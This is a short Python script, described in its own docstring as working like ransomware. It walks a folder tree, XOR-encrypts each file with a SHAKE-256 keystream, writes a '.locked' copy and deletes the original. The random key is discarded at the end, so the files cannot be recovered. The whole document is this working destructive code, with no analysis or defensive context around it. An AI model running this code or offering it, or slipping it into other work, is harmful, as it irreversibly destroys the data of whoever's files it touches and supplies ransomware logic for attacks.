"""Encrypts every file below a folder, as ransomware does: a new file `NAME.locked` each, and the old one removed.

The key is forgotten at the end. Files are never written in place, so that hard links keep what they were.
"""

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path


def lock(path: Path, key: bytes) -> None:
    data = path.read_bytes()
    stream = hashlib.shake_256(key + str(path).encode()).digest(len(data)) if data else b""
    locked = bytes(one ^ other for one, other in zip(data, stream, strict=True))
    path.with_name(path.name + ".locked").write_bytes(locked)
    path.unlink()


if __name__ == "__main__":
    secret = os.urandom(32)
    count = 0
    for found in sorted(Path(sys.argv[1]).rglob("*")):
        if found.is_file() and not found.is_symlink() and found.suffix != ".locked":
            try:
                lock(found, secret)
            except FileNotFoundError:
                continue
            count += 1
    print(f"{count} files encrypted")
